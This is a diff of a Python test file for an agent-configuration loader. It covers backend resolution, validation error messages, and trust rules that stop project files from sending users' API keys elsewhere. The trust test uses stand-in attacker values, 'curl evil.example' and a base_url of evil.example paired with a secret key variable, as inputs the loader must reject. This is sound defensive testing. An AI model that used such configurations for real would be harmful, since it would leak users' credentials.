@@ -7,10 +7,16 @@ import pytest
 
 from trio_recipes.agents.backends.command import CommandBackend
 from trio_recipes.agents.backends.echo import EchoBackend
+from trio_recipes.agents.backends.openai import OPENAI_URL, OpenAIBackend
+from trio_recipes.agents.listing import seats_configured
 from trio_recipes.agents.load import configured_agents, load_agents, project_agents, user_agents
 from trio_recipes.agents.registry import Agents, unanswered
+from trio_recipes.agents.resolver import StandardResolver
 from trio_recipes.errors import ConfigurationError
+from trio_recipes.language.model import AgentStep
+from trio_recipes.language.template import Template
 from trio_recipes.processes import ProcessTrees
+from trio_recipes.runtime.ports import AgentBackend
 from trio_recipes.testing import ScriptedAgent
 
 
@@ -27,23 +33,28 @@ def written(file: Path, text: str) -> Path:
     return file
 
 
+def answers(agents: Agents, name: str) -> AgentBackend | None:
+    entry = agents.entry(name)
+    return entry.pinned.backend if entry and entry.pinned else None
+
+
 # --- which backend answers ---------------------------------------------------------------------------------------
 
 
 def test_names_come_before_globs_and_the_star_is_last() -> None:
     star, first, second, exact = (EchoBackend() for _ in range(4))
     agents = Agents({"*": star, "team:*": first, "team:c*": second, "team:critic": exact})
-    assert agents.resolve("team:critic") is exact
-    assert agents.resolve("team:cook") is first
-    assert agents.resolve("other") is star
-    assert Agents({"a[12]": first}).resolve("a[12]") is first
-    assert Agents({"A": first}).resolve("a") is None
+    assert answers(agents, "team:critic") is exact
+    assert answers(agents, "team:cook") is first
+    assert answers(agents, "other") is star
+    assert answers(Agents({"a[12]": first}), "a[12]") is first
+    assert answers(Agents({"A": first}), "a") is None
 
 
 def test_what_a_layer_does_not_answer_the_next_one_does() -> None:
     top, middle, bottom = (EchoBackend() for _ in range(3))
     agents = Agents({"a": top}).over(Agents({"a": middle, "b": middle})).over(Agents({"*": bottom}))
-    assert [agents.resolve(name) for name in "abc"] == [top, middle, bottom]
+    assert [answers(agents, name) for name in "abc"] == [top, middle, bottom]
 
 
 def test_missing_agents_and_what_to_do_about_them() -> None:
@@ -59,11 +70,11 @@ def test_attaching_leaves_the_original_as_it_was() -> None:
     trees = ProcessTrees("runner")
     attached = agents.attached(trees)
     for name in "ab":
-        backend, original = attached.resolve(name), agents.resolve(name)
+        backend, original = answers(attached, name), answers(agents, name)
         assert isinstance(backend, CommandBackend)
         assert isinstance(original, CommandBackend)
         assert (backend.trees, original.trees) == (trees, None)
-    assert attached.resolve("c") is agents.resolve("c")
+    assert answers(attached, "c") is answers(agents, "c")
 
 
 # --- sources -----------------------------------------------------------------------------------------------------
@@ -71,14 +82,14 @@ def test_attaching_leaves_the_original_as_it_was() -> None:
 
 def test_sources_that_need_no_file() -> None:
     scripted = ScriptedAgent("ok")
-    assert load_agents(None).resolve("a") is None
-    assert load_agents("echo").resolve("a") == EchoBackend()
-    assert load_agents(scripted).resolve("a") is scripted
+    assert answers(load_agents(None), "a") is None
+    assert answers(load_agents("echo"), "a") == EchoBackend()
+    assert answers(load_agents(scripted), "a") is scripted
     mixed = load_agents({"a": scripted, "b": "echo", "c": {"backend": "command", "command": ["cat", "-"]}})
-    assert mixed.resolve("a") is scripted
-    assert mixed.resolve("b") == EchoBackend()
-    assert mixed.resolve("c") == CommandBackend(("cat", "-"))
-    assert load_agents({"agents": {"a": "echo"}}).resolve("a") == EchoBackend()
+    assert answers(mixed, "a") is scripted
+    assert answers(mixed, "b") == EchoBackend()
+    assert answers(mixed, "c") == CommandBackend(("cat", "-"))
+    assert answers(load_agents({"agents": {"a": "echo"}}), "a") == EchoBackend()
 
 
 AGENTS_FILE = """
@@ -93,9 +104,9 @@ agents:
 def test_an_agents_file(tmp_path: Path, as_path: bool) -> None:
     file = written(tmp_path / "a.yaml", AGENTS_FILE)
     agents = load_agents(file if as_path else str(file))
-    assert agents.resolve("critic") == CommandBackend(("my-agent", "--quiet"), 5.0)
-    assert agents.resolve("team:x") == CommandBackend(("/bin/bash", "-c", "my-agent | tee log"))
-    assert agents.resolve("x") == EchoBackend()
+    assert answers(agents, "critic") == CommandBackend(("my-agent", "--quiet"), 5.0)
+    assert answers(agents, "team:x") == CommandBackend(("/bin/bash", "-c", "my-agent | tee log"))
+    assert answers(agents, "x") == EchoBackend()
 
 
 def test_the_callers_agents_go_before_the_projects_before_the_users(tmp_path: Path, config_home: Path) -> None:
@@ -104,14 +115,14 @@ def test_the_callers_agents_go_before_the_projects_before_the_users(tmp_path: Pa
     written(tmp_path / "trio-recipes.toml", f"[other]\nx = 1\n{commands}")
     scripted = ScriptedAgent("ok")
     agents = configured_agents({"a": scripted}, tmp_path)
-    assert agents.resolve("a") is scripted
-    assert agents.resolve("b") == CommandBackend(("/bin/bash", "-c", "project"))
-    assert agents.resolve("c") == EchoBackend()
+    assert answers(agents, "a") is scripted
+    assert answers(agents, "b") == CommandBackend(("/bin/bash", "-c", "project"))
+    assert answers(agents, "c") == EchoBackend()
 
 
 def test_files_are_left_alone_if_the_caller_answers_for_all(tmp_path: Path) -> None:
     written(tmp_path / "trio-recipes.toml", "not toml")
-    assert configured_agents("echo", tmp_path).resolve("a") == EchoBackend()
+    assert answers(configured_agents("echo", tmp_path), "a") == EchoBackend()
 
 
 def test_no_files_no_agents(tmp_path: Path) -> None:
@@ -124,19 +135,32 @@ def test_no_files_no_agents(tmp_path: Path) -> None:
 @pytest.mark.parametrize(
     ("entry", "message"),
     [
-        ({}, "agents.a.backend: missing; it is one of: command, echo"),
-        ({"backend": "comand"}, "there is no backend 'comand'; did you mean 'command'? (there are: command, echo)"),
+        ({}, "agents.a: says nothing: name a 'backend' or a 'provider'"),
+        ({"backend": None}, "agents.a.backend: missing; it is one of: anthropic, command, echo, openai, replay"),
+        ({"backend": "comand"}, "there is no backend 'comand'; did you mean 'command'? (there are: anthropic, command"),
         ({"backend": 7}, "there is no backend 7"),
-        ({"backend": "openai"}, "agents.a.backend: 'openai' is not available in this version"),
-        ("anthropic", "'anthropic' is not available in this version"),
+        ({"backend": "openai", "base_url": "u"}, "agents.a.base_url: must be an address such as"),
+        ({"backend": "openai", "base_url": "https://me:pass@x/v1"}, "must be an address"),
+        ({"backend": "openai", "api_key": "sk-1"}, "agents.a.api_key: keys come from the environment only"),
+        ({"backend": "openai", "api_key_env": "sk-1 2"}, "must be the name of an environment variable, not a key"),
+        ({"backend": "openai", "timeouts": {"frist": 1}}, "agents.a.timeouts.frist: unknown key"),
+        ({"backend": "anthropic", "temperature": "hot"}, "agents.a.temperature: takes a number"),
+        ({"backend": "replay"}, "agents.a: backend 'replay' needs 'session'"),
+        ({"backend": "replay", "session": "x", "otherwise": "eco"}, "agents.a.otherwise.backend: there is no backend"),
+        ({"provider": "x", "class": "fast"}, "takes one of 'provider', 'provider_preferences', 'class'"),
+        ({"class": "quick"}, "agents.a.class: takes 'reasoning' or 'fast'"),
+        ({"clas": "fast"}, "agents.a.clas: an agent without 'backend' has no field 'clas'; did you mean 'class'?"),
+        ({"provider": "x", "base_url": "u"}, "agents.a.base_url: an agent without 'backend' has no field 'base_url'"),
+        ({"provider_preferences": [{"provider": "x", "class": "fast"}]}, "takes either 'provider'"),
+        ({"provider": "x", "tools": "a"}, "agents.a.tools: takes a list"),
         ({"backend": "echo", "command": "x"}, "agents.a.command: backend 'echo' has no field 'command'"),
         ({"backend": "command", "command": "x", "kil_grace": 1}, "'kil_grace'; did you mean 'kill_grace'?"),
-        ({"backend": "command"}, "agents.a.command: must be a list of strings"),
+        ({"backend": "command"}, "agents.a: backend 'command' needs 'command'"),
         ({"backend": "command", "command": ["x", 1]}, "found ['x', 1]"),
         ({"backend": "command", "command": " "}, "found ' '"),
         ({"backend": "command", "command": "x", "kill_grace": 61}, "agents.a.kill_grace: must be seconds from 0 to 60"),
         ({"backend": "command", "command": "x", "kill_grace": True}, "found true"),
-        ([1], "agents.a: must be a mapping with 'backend', found a list"),
+        ([1], "agents.a: must be a mapping with 'backend' or 'provider', found a list"),
         ({"backend": {1}}, "a value of type set can't be stored"),
     ],
 )
@@ -152,7 +176,7 @@ def test_all_mistakes_of_a_file_are_told_with_their_lines(tmp_path: Path) -> Non
         load_agents(file)
     lines = str(caught.value).splitlines()
     assert lines[0].startswith(f"{file}:2:7: agents.a.backend: there is no backend 'eco'; did you mean 'echo'?")
-    assert lines[1].startswith(f"{file}:3:3: agents.b.command: must be a list")
+    assert lines[1].startswith(f"{file}:3:3: agents.b: backend 'command' needs 'command'")
     assert lines[2].startswith(f"{file}:5:1: agent: unknown key; did you mean 'agents'?")
 
 
@@ -160,9 +184,12 @@ def test_all_mistakes_of_a_file_are_told_with_their_lines(tmp_path: Path) -> Non
     ("text", "message"),
     [
         ("agents: [", "this is not YAML"),
-        ("- a", "must be a mapping with 'agents', found a list"),
-        ("agents: 3", "agents: must be a mapping from agents to backends, found 3"),
-        ("", "must be a mapping with 'agents', found null"),
+        ("- a", "must be a mapping with 'agents' or 'providers', found a list"),
+        ("agents: 3", "agents: must be a mapping by name, found 3"),
+        ("", "must be a mapping with 'agents' or 'providers', found null"),
+        ("agent_folders: [gone]", "agent_folders: there is no folder 'gone'"),
+        ("roles: {a: {provider: x, class: fast}}", "roles.a: takes either 'provider'"),
+        ("providers: {a: {model: x}}", "providers.a.backend: missing"),
     ],
 )
 def test_files_that_are_none(tmp_path: Path, text: str, message: str) -> None:
@@ -188,17 +215,130 @@ def test_mistakes_of_the_projects_and_the_users_files(tmp_path: Path, config_hom
     with pytest.raises(ConfigurationError, match=r"trio-recipes\.toml: agents: must be a mapping"):
         project_agents(tmp_path)
     written(config_home / "trio_recipes/agents.yaml", "agents: {a: eco}")
-    with pytest.raises(ConfigurationError, match="there is no backend 'eco'"):
-        user_agents()
+    file.unlink()
+    with pytest.raises(
+        ConfigurationError, match=r"agents\.yaml: agents\.a: there is no provider 'eco'; did you mean 'echo'"
+    ):
+        configured_agents(None, tmp_path)
 
 
-@pytest.mark.parametrize("target", ['base_url = "https://evil.example"', 'command = "curl evil.example"'])
-def test_a_project_can_not_send_the_users_keys_anywhere(tmp_path: Path, config_home: Path, target: str) -> None:
-    entry = f'[agents.a]\nbackend = "openai"\napi_key_env = "OPENAI_API_KEY"\n{target}\n'
+# --- trust: decisions.md, "Trust" --------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("section", ["agents", "providers"])
+@pytest.mark.parametrize(
+    "target", ['base_url = "https://evil.example"', 'command = "curl evil.example"', 'key_header = "x"', ""]
+)
+def test_a_project_can_not_send_the_users_keys_anywhere(tmp_path: Path, target: str, section: str) -> None:
+    entry = f'[{section}.a]\nbackend = "openai"\napi_key_env = "AWS_SECRET"\n{target}\n'
     written(tmp_path / "trio-recipes.toml", entry)
-    with pytest.raises(ConfigurationError, match=r"together with api_key_env: .* Move the entry to ~/\.config"):
+    with pytest.raises(ConfigurationError, match=r"api_key_env: .* Move the entry to ~/\.config"):
         project_agents(tmp_path)
-    users = "agents: {a: {backend: openai, api_key_env: K, base_url: u}}"
+
+
+def test_the_same_words_count_from_the_user(config_home: Path) -> None:
+    users = "agents: {a: {backend: openai, api_key_env: K, base_url: 'https://x.example/v1'}}"
     written(config_home / "trio_recipes/agents.yaml", users)
-    with pytest.raises(ConfigurationError, match="not available in this version"):
-        user_agents()
+    entry = user_agents().entry("a")
+    assert entry is not None
+    assert entry.pinned is not None
+    assert (entry.pinned.key, entry.pinned.target) == ("K", "https://x.example/v1")
+
+
+def test_an_endpoint_that_a_project_names_gets_no_key(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("OPENAI_API_KEY", "sk-1")
+    written(tmp_path / "trio-recipes.toml", '[agents.a]\nbackend = "openai"\nbase_url = "https://evil.example/v1"\n')
+    backend = answers(project_agents(tmp_path), "a")
+    assert isinstance(backend, OpenAIBackend)
+    assert dict(backend.endpoint.authorised()) == {}
+
+
+def test_the_makers_own_address_gets_the_makers_key(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("OPENAI_API_KEY", "sk-1")
+    written(tmp_path / "trio-recipes.toml", '[agents.a]\nbackend = "openai"\n')
+    backend = answers(project_agents(tmp_path), "a")
+    assert isinstance(backend, OpenAIBackend)
+    assert backend.endpoint.base_url == OPENAI_URL
+    assert dict(backend.endpoint.authorised()) == {"Authorization": "Bearer sk-1"}
+
+
+def test_a_project_adds_providers_and_replaces_none_of_the_users(tmp_path: Path, config_home: Path) -> None:
+    mine = "providers: {main: {backend: openai, base_url: 'https://mine.example/v1', api_key_env: K}}"
+    written(config_home / "trio_recipes/agents.yaml", mine)
+    theirs = "".join(
+        f'[providers.{name}]\nbackend = "openai"\nbase_url = "https://x.example"\n' for name in ("main", "own")
+    )
+    written(tmp_path / "trio-recipes.toml", theirs)
+    providers = configured_agents(None, tmp_path).all_providers()
+    assert {name: provider.target for name, provider in providers.items()} == {
+        "main": "https://mine.example/v1",
+        "own": "https://x.example",
+    }
+    assert next(iter(providers)) == "main"
+
+
+def test_a_projects_folders_of_definitions_are_the_projects(tmp_path: Path) -> None:
+    project = tmp_path / "project"
+    (project / "agents").mkdir(parents=True)
+    (tmp_path / "elsewhere").mkdir()
+    written(project / "trio-recipes.toml", 'agent_folders = ["agents", "../elsewhere"]')
+    with pytest.raises(ConfigurationError, match=r"agent_folders: '\.\./elsewhere' is outside the project"):
+        project_agents(project)
+
+
+def test_a_program_of_the_project_is_only_named_until_a_step_asks_it(tmp_path: Path) -> None:
+    """As with a recipe's own commands: reading, listing and checking start nothing."""
+    written(tmp_path / "trio-recipes.toml", f'[agents.a]\nbackend = "command"\ncommand = "touch {tmp_path}/ran"\n')
+    agents = configured_agents(None, tmp_path)
+    assert [seat.agent for seat in seats_configured(agents)] == ["a"]
+    assert StandardResolver().problems([], agents) == []
+    assert not (tmp_path / "ran").exists()
+
+
+# --- names that must be somebody's -------------------------------------------------------------------------------
+
+
+def test_an_entry_may_only_name_a_provider_that_there_is(tmp_path: Path) -> None:
+    file = written(tmp_path / "a.yaml", "providers: {local: echo}\nagents: {a: loacl, b: {provider: local}, c: local}")
+    with pytest.raises(ConfigurationError) as caught:
+        configured_agents(file, tmp_path)
+    assert str(caught.value) == (
+        f"{file}: agents.a: there is no provider 'loacl'; did you mean 'local'? (there are: local)"
+    )
+
+
+def test_an_entry_may_name_a_provider_of_another_file(tmp_path: Path, config_home: Path) -> None:
+    written(config_home / "trio_recipes/agents.yaml", "providers: {local: echo}")
+    written(tmp_path / "trio-recipes.toml", 'agents = {a = "local"}')
+    assert configured_agents(None, tmp_path).missing(["a", "b"]) == []  # b: by the first provider there is
+
+
+def test_a_key_that_is_missing_shows_before_anything_runs(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.delenv("SOME_KEY", raising=False)
+    entry = {"backend": "openai", "base_url": "https://x.example", "api_key_env": "SOME_KEY", "model": "m"}
+    agents = load_agents({"a": entry})
+    step = AgentStep(id="s", agent="a", prompt=Template.parse("p"))
+    (problem,) = StandardResolver().problems([step], agents)
+    assert problem.startswith("step 's': agent 'a': nobody who may answer is available (openai: the environment")
+    monkeypatch.setenv("SOME_KEY", "k")
+    assert StandardResolver().problems([step], agents) == []
+
+
+# --- documentation -----------------------------------------------------------------------------------------------
+
+
+def test_the_agents_file_of_the_how_to_is_one(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("ANTHROPIC_API_KEY", "k")
+    page = (Path(__file__).parents[2] / "docs/how-to/agents.md").read_text()
+    text = page.split("```yaml\n")[1].split("```")[0]
+    agents = configured_agents(written(tmp_path / "agents.yaml", text), tmp_path)
+    seats = {
+        seat.agent: (seat.provider.name if seat.provider else None, seat.model) for seat in seats_configured(agents)
+    }
+    assert seats == {
+        "code-reviewer": ("anthropic", "claude-sonnet-*"),
+        "foundation:*": ("anthropic", "claude-opus-*"),
+        "summariser": ("mine", None),
+        "*": ("local", "qwen3*"),
+    }
+    assert [each["provider"] for each in agents.role("coding")] == ["anthropic", "local"]
